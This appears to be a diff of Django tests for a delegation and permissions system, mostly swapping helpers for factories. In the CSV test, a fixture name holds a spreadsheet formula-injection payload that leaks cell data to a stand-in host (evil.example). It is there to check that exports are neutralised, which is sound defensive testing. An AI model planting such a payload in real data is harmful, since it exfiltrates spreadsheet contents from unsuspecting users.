@@ -7,7 +7,7 @@ from audit.models import AuditEvent
 from habilitations.changes import grant
 from habilitations.delegation import Designation, designate
 from habilitations.models import Habilitation, Origin, Role, State
-from habilitations.tests.conftest import make_company
+from tests.factories import CompanyFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -77,7 +77,7 @@ def test_an_actor_cannot_open_the_delegation_pages(client, company, titular, bob
 def test_forged_posts_on_another_companys_habilitation_are_refused(
     client, company, titular, bob, carol
 ):
-    other = make_company(77)
+    other = CompanyFactory()
     grant(other, carol, "declarer_tva", Role.TITULAR_ADMIN, Origin.ADHESION)
     (foreign,) = designate(carol, other, bob, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(titular)
@@ -135,7 +135,7 @@ def test_renouncing_from_consulter_vos_services(client, company, titular, bob):
 
 
 def test_bulk_delegation_previews_then_grants(client, titular, bob):
-    companies = [make_company(300 + n, f"CLIENT {n:02d}") for n in range(4)]
+    companies = [CompanyFactory(name=f"CLIENT {n:02d}") for n in range(4)]
     for c in companies[:3]:
         grant(c, titular, "declarer_tva", Role.TITULAR_ADMIN, Origin.ADHESION)
     grant(companies[3], titular, "declarer_is", Role.TITULAR_ADMIN, Origin.ADHESION)
@@ -154,7 +154,7 @@ def test_bulk_delegation_previews_then_grants(client, titular, bob):
 
 
 def test_the_csv_never_carries_a_formula(client, company, titular):
-    from accounts.tests.factories import SubscriberFactory
+    from tests.factories import SubscriberFactory
 
     mallory = SubscriberFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
     designate(titular, company, mallory, [Designation("declarer_tva", Role.ACTOR)])
